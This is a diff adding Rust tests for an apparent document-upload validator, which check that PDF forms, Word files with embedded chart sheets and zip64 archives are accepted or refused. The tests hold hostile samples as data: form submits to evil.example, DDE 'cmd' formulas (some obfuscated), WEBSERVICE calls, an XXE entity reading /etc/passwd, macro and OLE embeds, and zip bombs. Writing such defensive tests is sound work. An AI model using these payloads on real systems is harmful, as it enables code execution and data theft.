@@ -11,8 +11,9 @@ use domain::application::evidence::{FileType, LARGEST_FILE};
 
 use super::judge;
 use files::{
-    CONTENT_TYPES, PACKAGE, Part, docx, docx_of, heic, honest, joined, jpeg, object_stream,
-    overlapping, pdf, pdf_packed, pdf_with_stream, png, stored, text, zip,
+    CHART_RELATIONS, CONTENT_TYPES, PACKAGE, Part, SHEET_TYPE, SHEET_TYPES, docx, docx_of,
+    docx_with_chart, heic, honest, joined, jpeg, object_stream, overlapping, packed as packed_part,
+    pdf, pdf_packed, pdf_with_stream, png, sheet_of, stored, text, zip, zip64,
 };
 
 #[test]
@@ -617,6 +618,197 @@ fn an_encryption_that_is_not_there_hides_nothing() {
     let other = other.replace("/U<55", "/U<56");
     let two = [locked.as_slice(), other.as_bytes()].concat();
     assert_eq!(judge(&two), Err(Refusal::Locked));
+}
+
+/// Forms of councils and of the government have such buttons.
+#[test]
+fn a_form_whose_buttons_print_empty_it_or_turn_its_pages_is_taken_and_one_that_sends_is_not() {
+    let button = |action: &str| {
+        pdf(&format!(
+            "/AcroForm << /Fields [<< /FT /Btn /Ff 65536 /Subtype /Widget /T (b) /A << {action} >> >>] >>"
+        ))
+    };
+    for action in [
+        "/S /ResetForm",
+        "/Type /Action /S /ResetForm /Fields [3 0 R] /Flags 1",
+        "/S /Named /N /Print",
+        "/S /Named /N /NextPage",
+        "/S /Named /N /GoBack",
+    ] {
+        assert_eq!(judge(&button(action)), Ok(Pdf), "{action}");
+        let stream = pdf_with_stream(&format!("<< /A << {action} >> >>"));
+        assert_eq!(judge(&stream), Ok(Pdf), "{action}");
+        // Nothing happens without a press, or after another action.
+        let opens = pdf(&format!("/OpenAction << {action} >>"));
+        assert_eq!(judge(&opens), Err(Refusal::Active), "{action}");
+        let opened = format!("9 0 obj << {action} >> endobj\n%%EOF");
+        let opens = joined(&pdf("/OpenAction 9 0 R"), opened.as_bytes());
+        assert_eq!(judge(&opens), Err(Refusal::Active), "{action}");
+        let chain = button(&format!("{action} /Next 9 0 R"));
+        assert_eq!(judge(&chain), Err(Refusal::Active), "{action}");
+        let page = pdf(&format!("/AA << /O << {action} >> >>"));
+        assert_eq!(judge(&page), Err(Refusal::Active), "{action}");
+    }
+    for action in [
+        "/S /SubmitForm /F (https://evil.example)",
+        "/S /SubmitForm /F (mailto:evil@evil.example)",
+        "/S /ResetForm /S /SubmitForm",
+        "/S /ResetForm /S /JavaScript /JS (1)",
+        "/S /ImportData /F (a.fdf)",
+        "/S /Hide /T (a)",
+        "/S /Named /N /SaveAs",
+        "/S /Named /N /Print /N /Quit",
+    ] {
+        assert_eq!(judge(&button(action)), Err(Refusal::Active), "{action}");
+    }
+}
+
+#[test]
+fn a_word_document_with_charts_is_taken_with_the_sheets_of_their_numbers() {
+    let sums = "<worksheet><c><f>SUM(B2:B5)</f></c><c><f>Table1[Amount]</f></c></worksheet>";
+    let sheet = sheet_of(&[("xl/worksheets/sheet1.xml", sums)]);
+    assert_eq!(judge(&docx_with_chart(&sheet, "")), Ok(Docx));
+    // LibreOffice names the type of each part.
+    let named = SHEET_TYPE.replace("Default", "Override").replace(
+        "Extension=\"xlsx\"",
+        "PartName=\"/word/embeddings/Microsoft_Excel_Sheet1.xlsx\"",
+    );
+    assert_eq!(judge(&docx_with_chart(&sheet, &named)), Ok(Docx));
+}
+
+#[test]
+fn a_sheet_in_a_word_document_that_fetches_or_brings_along_something_is_refused() {
+    let formula = |sum: &str| format!("<worksheet><c><f>{sum}</f></c></worksheet>");
+    let relation = |kind: &str, mode: &str| {
+        format!(
+            r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://evil.example/a" TargetMode="{mode}"/></Relationships>"#
+        )
+    };
+    for (name, part) in [
+        ("xl/worksheets/sheet1.xml", formula("cmd|'/c calc'!A0")),
+        (
+            "xl/worksheets/sheet1.xml",
+            formula("c&#109;d&#124;'/c calc'!A0"),
+        ),
+        (
+            "xl/worksheets/sheet1.xml",
+            formula("WEBSERVICE(\"https://evil.example\")"),
+        ),
+        ("xl/worksheets/sheet1.xml", formula("_xlfn.web service(A1)")),
+        (
+            "xl/workbook.xml",
+            "<workbook><definedName>cmd|'/c calc'!A0</definedName></workbook>".to_owned(),
+        ),
+        (
+            "xl/workbook.xml",
+            "<workbook><externalReference id=\"a\"/></workbook>".to_owned(),
+        ),
+        (
+            "xl/a.xml",
+            "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>".to_owned(),
+        ),
+        (
+            "xl/a.xml",
+            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_owned(),
+        ),
+        (
+            "xl/_rels/workbook.xml.rels",
+            relation("externalLinkPath", "External"),
+        ),
+        ("xl/_rels/workbook.xml.rels", relation("image", "External")),
+        (
+            "xl/_rels/workbook.xml.rels",
+            relation("connections", "Internal"),
+        ),
+        ("xl/vbaProject.bin", "a".to_owned()),
+        ("xl/embeddings/oleObject1.bin", "a".to_owned()),
+        ("word/embeddings/sheet.xlsx", "a".to_owned()),
+    ] {
+        let sheet = sheet_of(&[(name, &part)]);
+        let file = docx_with_chart(&sheet, "");
+        assert_eq!(judge(&file), Err(Refusal::Active), "{name} {part}");
+    }
+    let macros = SHEET_TYPES.replace(
+        "spreadsheetml.sheet.main",
+        "ms-excel.sheet.macroEnabled.main",
+    );
+    let sheet = sheet_of(&[("[Content_Types].xml", &macros)]);
+    assert!(judge(&docx_with_chart(&sheet, "")).is_err());
+    // What is called a sheet has to be one.
+    for content in [&b"MZ"[..], b"", &zip(&[stored("a.xml")]), &docx(vec![])] {
+        assert!(judge(&docx_with_chart(content, "")).is_err());
+    }
+    // A sheet is there for a chart alone, under its own name.
+    let sheet = sheet_of(&[]);
+    let size = u32::try_from(sheet.len()).unwrap();
+    let elsewhere = Part("word/media/a.xlsx", &sheet, size, 0, 0);
+    let types = CONTENT_TYPES.replace("<Types>", &format!("<Types>{SHEET_TYPE}"));
+    let file = zip(&[
+        text("[Content_Types].xml", &types),
+        text("_rels/.rels", PACKAGE),
+        stored("word/document.xml"),
+        elsewhere,
+    ]);
+    assert_eq!(judge(&file), Err(Refusal::Active));
+    let hidden = SHEET_TYPE.replace("Default", "Override").replace(
+        "Extension=\"xlsx\"",
+        "PartName=\"/word/embeddings/%61.xlsx\"",
+    );
+    assert_eq!(
+        judge(&docx_with_chart(&sheet, &hidden)),
+        Err(Refusal::Active)
+    );
+    let relations = relation("package", "External");
+    let file = docx_of(&[("word/charts/_rels/chart1.xml.rels", &relations)]);
+    assert_eq!(judge(&file), Err(Refusal::Active));
+    let relations = CHART_RELATIONS;
+    let file = docx_of(&[("word/_rels/document.xml.rels", relations)]);
+    assert_eq!(judge(&file), Err(Refusal::Active));
+}
+
+#[test]
+fn a_bomb_of_sheets_in_a_word_document_is_refused() {
+    let big = "a".repeat(11 * 1024 * 1024);
+    let sheet = sheet_of(&[("xl/a.txt", &big)]);
+    let packed = miniz_oxide::deflate::compress_to_vec(&sheet, 1);
+    let one = |name: &'static str| packed_part(name, &packed, sheet.len());
+    let types = CONTENT_TYPES.replace("<Types>", &format!("<Types>{SHEET_TYPE}"));
+    let file = zip(&[
+        text("[Content_Types].xml", &types),
+        text("_rels/.rels", PACKAGE),
+        stored("word/document.xml"),
+        one("word/embeddings/a.xlsx"),
+        one("word/embeddings/b.xlsx"),
+    ]);
+    assert_eq!(judge(&file), Err(Refusal::Bomb));
+}
+
+/// Programs that write as they go, and cannot know how long a file becomes, make a
+/// zip64 of it.
+#[test]
+fn a_word_document_in_a_zip64_is_taken_and_one_that_says_two_things_is_not() {
+    let narrow = docx(vec![stored("word/a.xml")]);
+    assert_eq!(judge(&zip64(&narrow, |_| {})), Ok(Docx));
+    let places = [
+        ("the place of the directory", 48, 1),
+        ("the length of the directory", 40, 1),
+        ("the count", 32, 1),
+        ("the length of the record", 4, 1),
+    ];
+    for (what, at, more) in places {
+        let other = zip64(&narrow, |record| record[at] = record[at].wrapping_add(more));
+        assert!(judge(&other).is_err(), "{what}");
+    }
+    // The narrow record says something else.
+    let mut two = zip64(&narrow, |_| {});
+    let end = two.len() - 22;
+    two[end + 10..end + 12].copy_from_slice(&1_u16.to_le_bytes());
+    assert!(judge(&two).is_err());
+    // A size that stands nowhere.
+    let bomb = docx(vec![Part("word/a.xml", b"abcdef", u32::MAX, 0, 8)]);
+    assert_eq!(judge(&zip64(&bomb, |_| {})), Err(Refusal::Bomb));
+    let hostile = docx_of(&[("word/a.xml", "<w:fldSimple w:instr=\"DDE cmd\"/>")]);
+    assert_eq!(judge(&zip64(&hostile, |_| {})), Err(Refusal::Active));
 }
 
 #[test]
